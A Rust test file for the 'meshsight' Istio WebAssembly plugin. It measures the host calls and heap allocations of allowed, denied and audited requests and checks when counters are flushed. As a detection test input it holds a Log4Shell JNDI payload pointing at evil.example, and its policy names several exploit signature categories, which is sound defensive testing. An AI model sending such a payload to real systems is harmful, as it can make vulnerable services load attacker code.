//! What one request costs the host, counted natively: the host functions each kind of request
//! makes through the one-pass policy the bench measures (the Istio `meshsight` WasmPlugin's
//! document). An allowed request that nothing flags, on a kept-alive connection, makes at most
//! three: the head, the connection's id (a rule looks at the peer), and the verdict for the
//! access logger. Counters are flushed on the root's tick, not per request.
// Helpers outside `#[test]` functions are test code too.
#![allow(clippy::panic, clippy::unwrap_used, clippy::expect_used)]

mod stats;
use proxy_wasm_test_host::{plugin_allocations, Action, CountingAllocator, Host};

/// Counts the module's heap allocations (not the native host's).
#[global_allocator]
static ALLOCATOR: CountingAllocator = CountingAllocator;
use stats::counter;

/// `envoy-config/istio/meshsight-wasmplugin.yaml`'s allowlist and mirror sections (the bench's
/// one-pass policy), with the audit section given.
fn policy(audit: &str) -> String {
    format!(
        r#"{{
  "allowlist": {{"mode": "enforce", "rewrite_path": true, "rules": [
    {{"name": "health", "methods": ["GET"], "paths": ["/healthz", "/ready"]}},
    {{"name": "catalog-read", "methods": ["GET", "HEAD"], "paths": ["/api/v1/products", "/api/v1/products/{{id}}", "/static/**"]}},
    {{"name": "cart-write", "methods": ["POST", "PUT", "DELETE"], "paths": ["/api/v1/cart/{{item}}"],
      "sources": {{"namespaces": ["shop"], "principals": ["spiffe://cluster.local/ns/shop/sa/web"]}}}},
    {{"name": "ops-metrics", "methods": ["GET"], "paths": ["/metrics"], "sources": {{"cidrs": ["10.0.0.0/8"]}}}}
  ]}},
  "mirror": {{
    "max_body_bytes": 16384, "copy_denied": true, "default_target": "ids",
    "targets": {{"ids": {{"cluster": "sensor", "delivery": "dispatch", "max_rps": 200, "timeout_ms": 500, "max_in_flight": 64}}}},
    "rules": [
      {{"name": "payments-namespace", "sources": {{"namespaces": ["payments"]}}, "action": {{"type": "always"}}}},
      {{"name": "admin-paths", "request": {{"paths": [{{"prefix": "/admin/"}}]}}, "action": {{"type": "always"}}}},
      {{"name": "sample-rest", "action": {{"type": "sample", "fraction": 0.01}}}}
    ],
    "signatures": {{"categories": {{"confluence_ognl": true, "log4shell": true, "spring4shell": true, "path_traversal": true, "wordpress_xmlrpc": true}}}}
  }},
  "audit": {audit}
}}"#
    )
}

const ACCESS_LOG: &str = r#"{"sink": "access_log"}"#;
const HTTP_SINK: &str =
    r#"{"sink": {"http": {"cluster": "collector", "flush_interval_ms": 1000}}}"#;

fn start(audit: &str) -> Host {
    Host::builder(meshsight::register)
        .plugin_config(policy(audit))
        .start()
        .unwrap_or_else(|e| panic!("configure failed: {e}"))
}

/// One request on connection `connection` (an id Envoy would give it), through its whole
/// life; the host functions its callbacks called.
fn request(
    host: &mut Host,
    connection: u64,
    method: &str,
    path: &str,
) -> (Action, Vec<&'static str>) {
    let id = host.new_http_stream();
    host.set_stream_property(id, &["connection", "id"], connection.to_le_bytes());
    host.set_stream_property(id, &["source", "address"], "10.1.2.3:5555");
    host.set_stream_property(
        id,
        &["connection", "uri_san_peer_certificate"],
        "spiffe://cluster.local/ns/shop/sa/web",
    );
    let headers = [
        (":method", method),
        (":path", path),
        (":authority", "checkout.shop.svc"),
        (":scheme", "http"),
        ("x-request-id", "9f0c3a52-0000-4000-8000-000000000001"),
        ("user-agent", "curl/8.5.0"),
    ];
    let action = host.request_headers(id, &headers, true);
    if host.local_response(id).is_some() {
        host.encode_local_response(id);
    } else {
        host.response_headers(id, &[(":status", "200")], true);
    }
    host.log(id);
    host.done(id);
    (action, host.host_calls(id))
}

fn report(kind: &str, calls: &[&str]) {
    eprintln!("{kind}: {} host calls {calls:?}", calls.len());
}

#[test]
fn an_allowed_request_nothing_flags_makes_at_most_three_host_calls() {
    let mut host = start(ACCESS_LOG);
    // The connection's first request reads what the connection fixes (its peer) once.
    let (action, first) = request(&mut host, 7, "GET", "/api/v1/products/42");
    assert_eq!(action, Action::Continue);
    report("allowed, unflagged, first on its connection", &first);
    let (action, kept_alive) = request(&mut host, 7, "GET", "/api/v1/products/43");
    assert_eq!(action, Action::Continue);
    report("allowed, unflagged, kept-alive connection", &kept_alive);
    assert!(
        kept_alive.len() <= 3,
        "an allowed request nothing flags made {} host calls: {kept_alive:?}",
        kept_alive.len()
    );
    assert!(
        !kept_alive.contains(&"proxy_increment_metric"),
        "counters are flushed on the tick, not per request: {kept_alive:?}"
    );
    // Envoy's stats lag until the root's tick flushes the worker's counts; then they add up.
    assert_eq!(host.counter("meshsight_allowlist_allowed"), Some(0));
    assert_eq!(counter(&mut host, "meshsight_allowlist_allowed"), Some(2));
    assert_eq!(counter(&mut host, "meshsight_audit_records"), Some(2));
    assert_eq!(counter(&mut host, "meshsight_mirror_not_selected"), Some(2));
}

#[test]
fn other_request_kinds_are_counted_too() {
    let mut host = start(ACCESS_LOG);
    request(&mut host, 9, "GET", "/api/v1/products");
    let (action, denied) = request(&mut host, 9, "GET", "/internal/config");
    assert_eq!(action, Action::Pause);
    report("denied, unflagged", &denied);
    let (action, attack) = request(
        &mut host,
        9,
        "GET",
        "/index.php?x=${jndi:ldap://evil.example/a}",
    );
    assert_eq!(action, Action::Pause);
    report("denied, signature hit (copied)", &attack);
    drop(host);
    let mut host = start(HTTP_SINK);
    request(&mut host, 11, "GET", "/api/v1/products");
    let (_, recorded) = request(&mut host, 11, "GET", "/api/v1/products/1");
    report("allowed, unflagged, audit http sink", &recorded);
    // Each kind is at least the head and at most what its record needs.
    for calls in [&denied, &attack, &recorded] {
        assert!(calls.contains(&"proxy_get_header_map_pairs"));
    }
}

#[test]
fn counts_not_yet_flushed_reach_the_host_when_the_plugin_stops() {
    let mut host = start(ACCESS_LOG);
    request(&mut host, 3, "GET", "/healthz");
    assert_eq!(
        host.counter("meshsight_allowlist_rule_hits.health"),
        Some(0)
    );
    assert!(host.shutdown());
    assert_eq!(
        host.counter("meshsight_allowlist_rule_hits.health"),
        Some(1)
    );
    assert_eq!(host.counter("meshsight_audit_delivered"), Some(1));
}

#[test]
fn heap_allocations_of_an_allowed_request_nothing_flags() {
    let mut host = start(ACCESS_LOG);
    request(&mut host, 5, "GET", "/api/v1/products/1");
    let before = plugin_allocations();
    let (action, _) = request(&mut host, 5, "GET", "/api/v1/products/2");
    assert_eq!(action, Action::Continue);
    let allocations = plugin_allocations() - before;
    eprintln!("allowed, unflagged, kept-alive connection: {allocations} heap allocations");
    // A ratchet, measured 2026-12-08: the signature scan of the head (about 9), the mirror
    // rules' selection (about 5), the head's index, the copy state machine's step and the
    // verdict text, all the policy crate's; lower this bound as they go, never raise it. (21
    // before the module's own ABI layer: the SDK boxed each stream context and copied each
    // property path once more before serializing it.)
    assert!(
        allocations <= 18,
        "an allowed request nothing flags made {allocations} heap allocations (was 18)"
    );
}
